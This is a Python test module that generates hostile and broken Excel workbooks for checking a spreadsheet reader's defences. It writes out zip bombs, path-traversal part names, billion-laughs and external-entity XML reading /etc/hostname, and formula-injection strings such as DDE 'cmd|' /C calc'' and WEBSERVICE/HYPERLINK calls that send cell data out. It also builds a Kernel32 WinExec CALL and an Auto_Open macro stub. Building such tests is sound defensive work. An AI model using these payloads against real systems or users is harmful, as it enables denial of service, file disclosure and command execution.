"""Hostile and broken workbooks, each made by script: the same bytes at every run.

A case is refused with a message that holds `says`, or read where `says` is empty. `told` are the cells of which a
problem must be told when it is read; `cells` are values that it must then have.
"""

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from tests.headless.books import HEAD, MAIN, OFFICE, PACKAGE, book, cell, parts_of, sheet, zipped

SHEET = "xl/worksheets/sheet1.xml"
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
DAMAGED = "is damaged"
# What a spreadsheet program takes for a formula when a text is pasted, imported or written by a careless program.
INJECTIONS = (
    "=cmd|' /C calc'!A0", "=1+1", '=HYPERLINK("http://127.0.0.1/?"&A1,"x")', "=WEBSERVICE(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '"=1+1"', "'=1+1", "＝1+1", "=IMPORTXML(A1)", "%0A=1+1",
)  # fmt: skip


@dataclass(frozen=True, kw_only=True)
class Case:
    """One workbook, and what must come of it."""

    make: Callable[[], bytes]
    says: str = ""
    told: tuple[str, ...] = ()
    cells: dict[str, object] = field(default_factory=dict)


def plain(*cells: str) -> bytes:
    return book({"S": sheet(*(cells or (cell("A1", 1), cell("A2", 0, "A1+1"))))})


def with_part(name: str, content: bytes | str, base: bytes | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    return zipped({**parts_of(base or plain()), name: content}, method)


def worksheet(inside: str, before: str = "") -> str:
    return f'{HEAD}<worksheet xmlns="{MAIN}">{before}<sheetData>{inside}</sheetData></worksheet>'


def formula(text: str, **options: object) -> bytes:
    """A workbook in which A2 holds a formula with the value 5, and A3 one that is as good as any."""
    return book({"S": sheet(cell("A1", 1), cell("A2", 5, text), cell("A3", 0, "A1+1"))}, **options)


def names(*pairs: tuple[str, str]) -> bytes:
    return formula("a", names=[(name, None, text) for name, text in pairs])


# -- files that are more than they look ------------------------------------------------------------------------------


def lying_header(size: int) -> bytes:
    """A bomb of 64 MB whose directory gives another size."""
    data = bytearray(with_part("xl/media/image1.bin", bytes(64 * 2**20)))
    at = data.rindex(b"xl/media/image1.bin") - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    data[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(data)


def nested_bomb() -> bytes:
    inner = zipped({f"{i}.bin": bytes(2**20) for i in range(64)})
    for _ in range(4):
        inner = zipped({f"{i}.zip": inner for i in range(8)})
    return with_part("xl/embeddings/oleObject1.zip", inner)


def overlapping() -> bytes:
    """Two hundred entries that all stand for the same packed bytes."""
    buffer = io.BytesIO(plain())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.bin", bytes(7 * 2**20))
        first = archive.getinfo("xl/media/image1.bin")
        for i in range(200):
            twin = zipfile.ZipInfo(f"xl/media/{i:06}.bin")
            for slot in ("header_offset", "compress_size", "file_size", "CRC", "compress_type", "flag_bits"):
                setattr(twin, slot, getattr(first, slot))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return buffer.getvalue()


def twice() -> bytes:
    buffer = io.BytesIO(plain())
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo(SHEET)
        archive.NameToInfo.pop(SHEET)
        archive.writestr(info, worksheet('<row r="1"><c r="A1"><v>1000000</v></c></row>'))
    return buffer.getvalue()


def many_parts() -> bytes:
    return zipped({**parts_of(plain()), **{f"xl/media/{i}.png": b"" for i in range(11_000)}}, zipfile.ZIP_STORED)


def million_entries() -> bytes:
    """A directory whose entries would each become an object in memory."""
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 1_000_000
    return b"PK" + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0, 0, len(directory), 2, 0)


def encrypted_entry() -> bytes:
    data = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


# -- XML that is more than it looks ----------------------------------------------------------------------------------

ENTITIES = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 12))
LAUGHS = f'<!DOCTYPE x [<!ENTITY e0 "ha">{ENTITIES}]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'


def declared(doctype: str, part: str, content: str, encoding: str = "utf-8") -> bytes:
    text = HEAD.replace("UTF-8", encoding.upper()) + doctype + content.removeprefix(HEAD)
    return with_part(part, text.encode(encoding))


def hidden_doctype() -> bytes:
    """A document type in a part whose name does not say that it is XML."""
    parts = parts_of(book({"S": sheet(cell("A1", 0, attributes=' t="s"'))}, texts=["<t>a</t>"]))
    content = parts.pop("xl/sharedStrings.xml").decode().replace("<t>a</t>", "<t>&e11;</t>")
    parts["xl/sharedStrings.dat"] = HEAD + LAUGHS + content.removeprefix(HEAD)
    links = "xl/_rels/workbook.xml.rels"
    parts[links] = parts[links].replace(b"sharedStrings.xml", b"sharedStrings.dat")
    return zipped(parts)


def hidden_sheet() -> bytes:
    """The same of a sheet."""
    parts = parts_of(plain())
    content = parts.pop(SHEET).decode()
    parts["xl/worksheets/sheet1.dat"] = HEAD + LAUGHS + content.removeprefix(HEAD).replace("<v>1<", "<v>&e1;<")
    links = "xl/_rels/workbook.xml.rels"
    parts[links] = parts[links].replace(b"sheet1.xml", b"sheet1.dat")
    return zipped(parts)


def shared_strings(item: str, count: int) -> bytes:
    base = book({"S": sheet(cell("A1", 0, attributes=' t="s"'))}, texts=["<t>a</t>"])
    part = f'{HEAD}<sst xmlns="{MAIN}">{item * count}</sst>'
    return with_part("xl/sharedStrings.xml", part, base, zipfile.ZIP_STORED)


def sheet_part(inside: str, before: str = "", method: int = zipfile.ZIP_STORED) -> bytes:
    return with_part(SHEET, worksheet(inside, before), method=method)


def cells_without_names(count: int) -> str:
    return ("<row>" + "<c/>" * 16_000 + "</row>") * (count // 16_000)


def attributes(count: int) -> str:
    return " ".join(f'a{i}=">"' for i in range(count))


def workbook_part(old: bytes, new: bytes) -> bytes:
    parts = parts_of(plain())
    assert old in parts["xl/workbook.xml"]
    return zipped({**parts, "xl/workbook.xml": parts["xl/workbook.xml"].replace(old, new)}, zipfile.ZIP_STORED)


# -- what reaches out of the workbook --------------------------------------------------------------------------------


def linked(inside: str, text: str) -> bytes:
    """A workbook with a link to somewhere else, and a formula over it."""
    parts = parts_of(formula(text))
    links = "xl/_rels/workbook.xml.rels"
    relation = f'<Relationship Id="rx" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    parts[links] = parts[links].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{inside}</externalLink>'
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/externalLinkPath" '
        'Target="http://127.0.0.1:9/evil.xlsx" TargetMode="External"/></Relationships>'
    )
    return zipped(parts)


def connected() -> bytes:
    content = (
        f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" name="x" type="5" refreshOnLoad="1">'
        '<dbPr connection="Provider=MSDASQL;DSN=x;DBQ=\\\\127.0.0.1\\x" command="select 1"/></connection></connections>'
    )
    return with_part("xl/connections.xml", content)


def macros() -> bytes:
    base = with_part("xl/vbaProject.bin", OLE + b"Auto_Open Shell calc.exe")
    return with_part(
        "customUI/customUI.xml",
        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Auto_Open"/>',
        base,
    )


def deep(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + f"</{tag}>" * depth


def table_part(**attributes: str) -> bytes:
    lines = (cell("A1", "Component"), cell("B1", "Amount"), cell("A2", "x"), cell("B2", 1))
    data = book({"S": sheet(*lines)}, tables=[("T", "S", "A1:B2", ("Component", "Amount"))])
    parts = parts_of(data)
    part = "xl/tables/table1.xml"
    text = parts[part].decode()
    for name, value in attributes.items():
        text = text.replace("<table ", f'<table {name}="{value}" ', 1) if f' {name}="' not in text else text
    return zipped({**parts, part: text})


CELL = '<row r="1"><c r="A1"><v>{}</v></c></row><row r="2"><c r="A2"><f>A1+1</f><v>7</v></c></row>'

CASES: dict[str, Case] = {
    # zip
    "bomb, flat": Case(make=lambda: with_part("xl/media/image1.bin", bytes(64 * 2**20)), says="unpacks to more than"),
    "bomb, a sheet of blanks": Case(
        make=lambda: with_part(SHEET, worksheet(" " * 200_000_000)), says="unpacks to more than"
    ),
    "bomb, header says it is small": Case(make=lambda: lying_header(1000), says=DAMAGED),
    "bomb, header says it is huge": Case(make=lambda: lying_header(2**32 - 2), says="unpacks to more than"),
    "bomb, nested": Case(make=nested_bomb, cells={"S!A2": 2.0}),
    "bomb, overlapping entries": Case(make=overlapping, says="bad.xlsx"),
    "too many parts": Case(make=many_parts, says="has more than 10000 parts"),
    "a directory of a million": Case(make=million_entries, says="has more than 10000 parts"),
    "part names lead out": Case(make=lambda: with_part("../../evil.txt", "x"), says="leads out of the file"),
    "part names lead out by backslash": Case(
        make=lambda: with_part("xl\\..\\..\\evil.txt", "x"), says="leads out of the file"
    ),
    "part name is absolute": Case(make=lambda: with_part("/tmp/evil.txt", "x"), says="leads out of the file"),
    "part name is of a drive": Case(make=lambda: with_part("C:\\evil.txt", "x"), says="leads out of the file"),
    "a part twice": Case(make=twice, says="is there twice"),
    "a part twice in another case": Case(make=lambda: with_part("XL/Workbook.xml", "<a/>"), says="is there twice"),
    "encrypted": Case(
        make=lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(4096), says="protected with a password"
    ),
    "encrypted entry": Case(make=encrypted_entry, says="protected with a password"),
    "xls": Case(make=lambda: OLE + "Workbook".encode("utf-16-le"), says="old .xls format"),
    "xlsb": Case(make=lambda: with_part("xl/workbook.bin", b"\x83\x01"), says="binary .xlsb format"),
    "not a zip": Case(make=lambda: b"MZ" + bytes(4096), says="is not an Excel workbook"),
    "nothing": Case(make=lambda: b"", says="is empty"),
    "no workbook inside": Case(make=lambda: zipped({"evil.exe": b"MZ"}), says="holds no workbook"),
    # XML
    "entities that grow": Case(
        make=lambda: declared(LAUGHS, SHEET, worksheet("").replace("<sheetData>", "<x>&e11;</x><sheetData>")),
        says="declares a document type",
    ),
    "entities that grow, in the texts": Case(
        make=lambda: declared(LAUGHS, "xl/sharedStrings.xml", f'<sst xmlns="{MAIN}"><si><t>&e11;</t></si></sst>'),
        says="declares a document type",
    ),
    "entities that grow, in UTF-16": Case(
        make=lambda: declared(LAUGHS, "xl/workbook.xml", "<workbook>&e11;</workbook>", "utf-16"),
        says="declares a document type",
    ),
    "entities that grow, in a part that hides it": Case(make=hidden_doctype, says="declares a document type"),
    "entities that grow, in a sheet that hides it": Case(make=hidden_sheet, says="sheet1.dat"),
    "external entity": Case(
        make=lambda: declared(EXTERNAL, "xl/workbook.xml", "<workbook>&e;</workbook>"), says="declares a document type"
    ),
    "external entity, in UTF-16 big-endian": Case(
        make=lambda: with_part(
            "xl/workbook.xml",
            b"\xfe\xff" + (HEAD.replace("UTF-8", "UTF-16") + EXTERNAL + "<workbook>&e;</workbook>").encode("utf-16-be"),
        ),
        says="declares a document type",
    ),
    "document type from the net": Case(
        make=lambda: declared(REMOTE, SHEET, worksheet("")), says="declares a document type"
    ),
    "unknown encoding": Case(
        make=lambda: workbook_part(b'encoding="UTF-8"', b'encoding="UTF-7"'), says="xl/workbook.xml cannot be read"
    ),
    "ten million texts": Case(
        make=lambda: shared_strings("<si/>", 10_000_000), says="xl/sharedStrings.xml has more than 4010000 XML tags"
    ),
    "ten million cells": Case(make=lambda: sheet_part(cells_without_names(10_000_000)), says="it passes 2000000 cells"),
    "ten million rows": Case(make=lambda: sheet_part("<row/>" * 10_000_000), says=f"{SHEET} cannot be read"),
    "a million columns": Case(
        make=lambda: sheet_part("<row>" + "<c/>" * 1_000_000 + "</row>"), says=f"{SHEET} cannot be read"
    ),
    "a million columns by name": Case(
        make=lambda: sheet_part('<row r="1"><c r="BDWGN1"><v>1</v></c></row>'), says=f"{SHEET} cannot be read"
    ),
    "a million column styles": Case(
        make=lambda: sheet_part(CELL.format(1), '<cols><col min="1" max="1000000" style="1"/></cols>'),
        cells={"S!A2": 2.0},
    ),
    "three million merged areas": Case(
        make=lambda: with_part(
            SHEET,
            worksheet("").replace(
                "</worksheet>", "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 3_000_000 + "</mergeCells></worksheet>"
            ),
            method=zipfile.ZIP_STORED,
        ),
        says=f"{SHEET} cannot be read",
    ),
    "a tag with two million attributes": Case(
        make=lambda: sheet_part(f"<row {attributes(2_000_000)}/>"), says="a text or tag of more than 1 MB"
    ),
    "a tag with two million attributes, in the workbook": Case(
        make=lambda: workbook_part(b"<sheets>", f"<sheets {attributes(2_000_000)}>".encode()),
        says="a text or tag of more than 1 MB",
    ),
    "a text of 40 MB": Case(
        make=lambda: sheet_part(f'<row r="1"><c r="A1" t="str"><v>{"x" * 40_000_000}</v></c></row>'),
        says="a text or tag of more than 1 MB",
    ),
    "XML a million deep": Case(make=lambda: sheet_part(deep("a", 1_000_000)), cells={}),
    "XML a million deep, in the workbook": Case(
        make=lambda: workbook_part(b"<sheets>", deep("a", 1_000_000).encode() + b"<sheets>"), cells={"S!A2": 2.0}
    ),
    "five million styles": Case(
        make=lambda: book(
            {"S": sheet(cell("A1", 1))},
            styles=f'{HEAD}<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 5_000_000}</cellXfs></styleSheet>',
        ),
        says="bad.xlsx",
    ),
    "absurd dimension": Case(
        make=lambda: sheet_part(CELL.format(1), '<dimension ref="A1:XFD1048576"/>'), cells={"S!A2": 2.0}
    ),
    "dimension beyond the sheet": Case(
        make=lambda: sheet_part(CELL.format(1), '<dimension ref="A1:ZZZZZ99999999"/>'), cells={"S!A2": 2.0}
    ),
    "the last cell of a sheet": Case(
        make=lambda: sheet_part(CELL.format(1) + '<row r="1048576"><c r="XFD1048576"><v>3</v></c></row>'),
        cells={"S!A2": 2.0, "S!XFD1048576": 3.0},
    ),
    "a row beyond the sheet": Case(
        make=lambda: sheet_part('<row r="1048577"><c><v>1</v></c></row>'), says=f"{SHEET} cannot be read"
    ),
    "a row with a number of 4000 digits": Case(
        make=lambda: sheet_part(f'<row r="{"9" * 4000}"/>'), says=f"{SHEET} cannot be read"
    ),
    "row nought": Case(make=lambda: sheet_part('<row r="0"><c><v>1</v></c></row>'), says=f"{SHEET} cannot be read"),
    "a cell twice": Case(
        make=lambda: sheet_part('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>1000000</v></c></row>'),
        says=f"{SHEET} cannot be read",
    ),
    "a sheet twice": Case(
        make=lambda: workbook_part(b"</sheets>", b'<sheet name="s" sheetId="2" r:id="r1"/></sheets>'),
        says="xl/workbook.xml cannot be read",
    ),
    "a sheet without a number": Case(
        make=lambda: workbook_part(b'sheetId="1"', b'sheetId="one"'), says="xl/workbook.xml cannot be read"
    ),
    "a sheet that is somewhere else": Case(
        make=lambda: zipped(
            {
                **parts_of(plain()),
                "xl/_rels/workbook.xml.rels": parts_of(plain())["xl/_rels/workbook.xml.rels"].replace(
                    b"worksheets/sheet1.xml", b"../../../../etc/passwd"
                ),
            }
        ),
        says="the part etc/passwd is missing",
    ),
    "wrong content types": Case(
        make=lambda: with_part(
            "[Content_Types].xml",
            f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="image/png"/></Types>',
        ),
        cells={"S!A2": 2.0},
    ),
    "a table with half a header": Case(make=lambda: table_part(headerRowCount="0.5"), says="cannot be read"),
    "a table with more headers than rows": Case(make=lambda: table_part(headerRowCount="9999"), says="cannot be read"),
    # formulas
    "a circle": Case(
        make=lambda: book({"S": sheet(cell("A1", 5, "A2+1"), cell("A2", 5, "A1+1"), cell("A3", 0, "1+1"))}),
        told=("A1", "A2"),
        cells={"S!A1": 5.0, "S!A3": 2.0},
    ),
    "a cell that reads itself": Case(make=lambda: formula("A2+1"), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}),
    "a circle of ten thousand": Case(
        make=lambda: book({"S": sheet(*(cell(f"A{i}", 5, f"A{i % 10_000 + 1}+1") for i in range(1, 10_001)))}),
        told=("A1", "A10000"),
        cells={"S!A1": 5.0},
    ),
    "a chain of ten thousand": Case(
        make=lambda: book(
            {"S": sheet(*(cell(f"A{i}", 5, f"A{i + 1}+1") for i in range(1, 10_000)), cell("A10000", 1))}
        ),
        cells={"S!A1": 10_000.0},
    ),
    "parentheses eight thousand deep": Case(
        make=lambda: formula("(" * 8000 + "1" + ")" * 8000), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "functions eight thousand deep": Case(
        make=lambda: formula("SUM(" * 8000 + "1" + ")" * 8000), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "our functions a thousand deep": Case(
        make=lambda: formula("CRM_TOTAL(" * 1000 + "1" + ")" * 1000), told=("A2",), cells={"S!A3": 2.0}
    ),
    "eight thousand minus signs": Case(
        make=lambda: formula("-" * 8000 + "1"), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "a sum of eight thousand": Case(
        make=lambda: formula("+".join(["1"] * 8000)), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "parentheses that never close": Case(make=lambda: formula("(" * 8000), told=("A2",), cells={"S!A3": 2.0}),
    "a quote that never closes": Case(make=lambda: formula('"' + "x" * 8000), told=("A2",), cells={"S!A3": 2.0}),
    "a formula of 100,000 characters": Case(
        make=lambda: formula("+".join(["1"] * 50_000)), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "a shared formula that cannot be read": Case(
        make=lambda: sheet_part(
            '<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A2">"(</f><v>1</v></c></row>'
            '<row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>'
        ),
        told=("A1", "A2"),
        cells={"S!A2": 2.0},
    ),
    "a name that means itself": Case(make=lambda: names(("a", "a+1")), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}),
    "names that mean each other": Case(
        make=lambda: names(("a", "b"), ("b", "a")), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "names that grow": Case(
        make=lambda: names(
            ("a", "n_1"), *((f"n_{i}", "+".join([f"n_{i + 1}"] * 10)) for i in range(1, 13)), ("n_13", "1")
        ),
        told=("A2",),
        cells={"S!A2": 5.0, "S!A3": 2.0},
    ),
    "a sum over all of a sheet": Case(make=lambda: formula("SUM(B1:XFD1048576)"), cells={"S!A2": 0.0}),
    "our sum over all of a sheet": Case(
        make=lambda: formula("CRM_TOTAL(B:XFD)"), told=("B1:XFD1048576",), cells={"S!A3": 2.0}
    ),
    "an array over all of a sheet": Case(
        make=lambda: book({"S": sheet(cell("A1", 1, "1+1", array="A1:XFD1048576"))}),
        says="the value of S!A1 cannot be read",
    ),
    "a hundred arrays of a million": Case(
        make=lambda: book({"S": sheet(*(cell(f"{c}1", 1, "1", array=f"{c}1:{c}900000") for c in "ABCDEFGH"))}),
        says="the value of S!B1 cannot be read",
    ),
    "an array of another sheet": Case(
        make=lambda: book({"S": sheet(cell("A1", 1, "1+1", array="Other!A1:B2"))}), cells={"S!A1": 2.0}
    ),
    "an array that begins elsewhere": Case(
        make=lambda: book({"S": sheet(cell("A1", 1, "1+1", array="C1:D2"))}), says="the value of S!A1 cannot be read"
    ),
    "a sequence of 17 milliards": Case(make=lambda: formula("SUM(SEQUENCE(1048576,16384))"), cells={"S!A3": 2.0}),
    "a text of a milliard": Case(make=lambda: formula('LEN(REPT("a",1E9))'), cells={"S!A3": 2.0}),
    "a number without end": Case(make=lambda: formula("CUMIPMT(0.1,1E8,1,1,1E8,0)"), cells={"S!A3": 2.0}),
    # what reaches out
    "external link": Case(
        make=lambda: linked(
            '<externalBook r:id="r1"><sheetNames><sheetName val="S"/></sheetNames></externalBook>', "[1]S!A1*2"
        ),
        told=("A2",),
        cells={"S!A2": 5.0, "S!A3": 2.0},
    ),
    "external link by path": Case(
        make=lambda: formula("'\\\\127.0.0.1\\share\\[x.xlsx]S'!A1"), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "dynamic data exchange": Case(
        make=lambda: linked('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>', "[1]!'A0'"),
        told=("A2",),
        cells={"S!A2": 5.0, "S!A3": 2.0},
    ),
    "dynamic data exchange as typed": Case(
        make=lambda: formula("cmd|' /C calc'!A0"), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "web service": Case(
        make=lambda: formula('WEBSERVICE("http://127.0.0.1:9/"&A1)'), told=("A2",), cells={"S!A2": 5.0, "S!A3": 2.0}
    ),
    "call of a library": Case(
        make=lambda: formula('CALL("Kernel32","WinExec","JCJ","calc",0)'), told=("A2",), cells={"S!A2": 5.0}
    ),
    "add-in of a stranger": Case(
        make=lambda: formula("'http://127.0.0.1:9/evil.xlam'!CRM_TOTAL(A1)"), told=("A2",), cells={"S!A3": 2.0}
    ),
    "connection that refreshes": Case(make=connected, cells={"S!A2": 2.0}),
    "macros": Case(make=macros, cells={"S!A2": 2.0}),
    # values
    "not a number": Case(make=lambda: sheet_part(CELL.format("NaN")), says="the value of S!A1 cannot be read"),
    "infinity": Case(make=lambda: sheet_part(CELL.format("INF")), says="the value of S!A1 cannot be read"),
    "a number larger than any": Case(
        make=lambda: sheet_part(CELL.format("1E999")), says="the value of S!A1 cannot be read"
    ),
    "a number in words of Python": Case(
        make=lambda: sheet_part(CELL.format("1_000")), says="the value of S!A1 cannot be read"
    ),
    "digits of full width": Case(make=lambda: sheet_part(CELL.format("１２")), says="the value of S!A1 cannot be read"),
    "a sum past the largest number": Case(
        make=lambda: book({"S": sheet(cell("A1", "1E308"), cell("B1", 0, "C1+C1"), cell("C1", 1e308))}),
        cells={"S!B1": "#NUM!"},
    ),
    "minus nought": Case(make=lambda: sheet_part(CELL.format("-0")), cells={"S!A2": 1.0}),
    "the smallest number": Case(make=lambda: sheet_part(CELL.format("4.9E-324")), cells={"S!A2": 1.0}),
    "an id of sixteen digits": Case(
        make=lambda: book({"S": sheet(cell("A1", "1234567890123456"), cell("A2", "", "A1"))}),
        cells={"S!A1": "1234567890123456", "S!A2": "1234567890123456"},
    ),
    "a text that is not there": Case(
        make=lambda: book({"S": sheet(cell("A1", 7, attributes=' t="s"'))}, texts=["<t>a</t>"]),
        says="the value of S!A1 cannot be read",
    ),
    "a text before the first": Case(
        make=lambda: book({"S": sheet(cell("A1", -1, attributes=' t="s"'))}, texts=["<t>a</t>"]),
        says="the value of S!A1 cannot be read",
    ),
    "a date beyond the calendar": Case(
        make=lambda: sheet_part('<row r="1"><c r="A1" t="d"><v>99999-01-01</v></c></row>'),
        says="the value of S!A1 cannot be read",
    ),
    "names that turn and names without width": Case(
        make=lambda: book(
            {
                "Sales\u202eslxs": sheet(cell("A1", 1)),
                "Sales\u200b": sheet(cell("A1", 2)),
                "Sales": sheet(cell("A1", 3), cell("A2", 0, "'Sales\u200b'!A1+A1")),
            }
        ),
        cells={"Sales!A2": 5.0},
    ),
}


def injections() -> bytes:
    """A workbook whose every text field holds what would be a formula elsewhere; column B reads column A."""
    cells = [
        xml
        for i, text in enumerate(INJECTIONS, 1)
        for xml in (_text_cell(f"A{i}", text), cell(f"B{i}", "", f'A{i}&""'))
    ]
    head = [cell("D1", "Component"), cell("E1", "Amount"), cell("F1", "Department")]
    lines = [
        xml
        for i, text in enumerate(INJECTIONS, 2)
        for xml in (_text_cell(f"D{i}", text), cell(f"E{i}", 10), _text_cell(f"F{i}", text))
    ]
    table = f"D1:F{len(INJECTIONS) + 1}"
    spill = cell("H1", "", f'CRM_BREAKDOWN({table},,"department")', array="H1:H1", dynamic=True)
    return book({"S": sheet(*cells, *head, *lines, spill)}, metadata=True)


def _text_cell(name: str, text: str) -> str:
    escaped = text.replace("\r", "_x000D_")
    return cell(name, escaped).replace("<t>", '<t xml:space="preserve">')


# -- broken by accident ----------------------------------------------------------------------------------------------


def rich() -> bytes:
    """A small workbook that has one of everything that the readers read."""
    costs = sheet(
        *(cell(f"{c}1", head) for c, head in zip("ABC", ("Component", "Quantity", "Unit cost"), strict=True)),
        *(
            xml
            for r in (2, 3)
            for xml in (cell(f"A{r}", 0, attributes=' t="s"'), cell(f"B{r}", r), cell(f"C{r}", 1.5, style=1))
        ),
        after='<mergeCells count="1"><mergeCell ref="E1:F2"/></mergeCells>',
        dimension="A1:C3",
    )
    results = sheet(
        cell("A1", 0, "CRM_TOTAL(Costs[#All])"), cell("A2", 0, "Total*2"), cell("A3", "", "IF(A1>0,\"yes\",\"no\")"),
        cell("B1", "", "CRM_BREAKDOWN(Costs[#All])", array="B1:C3", dynamic=True),
    )  # fmt: skip
    styles = (
        f'{HEAD}<styleSheet xmlns="{MAIN}"><numFmts count="1"><numFmt numFmtId="170" formatCode="yyyy\\-mm"/></numFmts>'
        '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs></styleSheet>'
    )
    return book(
        {"Costs": costs, "Results": results},
        tables=[("Costs", "Costs", "A1:C3", ("Component", "Quantity", "Unit cost"))],
        names=[("Total", None, "Results!$A$1"), ("Local", "Results", "Results!A2")],
        texts=["<t>Licence</t>", "<r><t>Trai</t></r><r><t>ning</t></r>"],
        styles=styles,
        metadata=True,
        chain='<c r="A1" i="2"/><c r="A2"/>',
        calc='<calcPr calcId="191029"/>',
    )


def truncated(data: bytes) -> Iterator[tuple[str, bytes]]:
    """The file cut off at every kilobyte."""
    for length in range(0, len(data), 1024):
        yield f"cut off after {length} bytes", data[:length]


def flipped(data: bytes, count: int, seed: int = 20261123) -> Iterator[tuple[str, bytes]]:
    """The file with one to four bits turned over."""
    chance = random.Random(seed)
    for number in range(count):
        changed = bytearray(data)
        for _ in range(chance.randint(1, 4)):
            changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
        yield f"flip {number}", bytes(changed)


def flipped_inside(data: bytes, count: int, seed: int = 20261123) -> Iterator[tuple[str, bytes]]:
    """The file with bits turned over, or stretches dropped or doubled, in a part before it was packed."""
    chance = random.Random(seed)
    parts = parts_of(data)
    for number in range(count):
        name = chance.choice(list(parts))
        content = bytearray(parts[name])
        for _ in range(chance.randint(1, 3)):
            at = chance.randrange(len(content))
            match chance.randrange(4):
                case 0:
                    content[at] ^= 1 << chance.randrange(8)
                case 1:
                    del content[at : at + chance.randint(1, 40)]
                case 2:
                    content[at:at] = content[at : at + chance.randint(1, 40)]
                case 3:
                    content[at : at + 1] = chance.choice(
                        (b"-1", b"1e999", b"NaN", b"&#x41;", b"9" * 20, b"A1:XFD1", b"#REF!")
                    )
        yield f"change {number} in {name}", zipped({**parts, name: bytes(content)}, zipfile.ZIP_STORED)
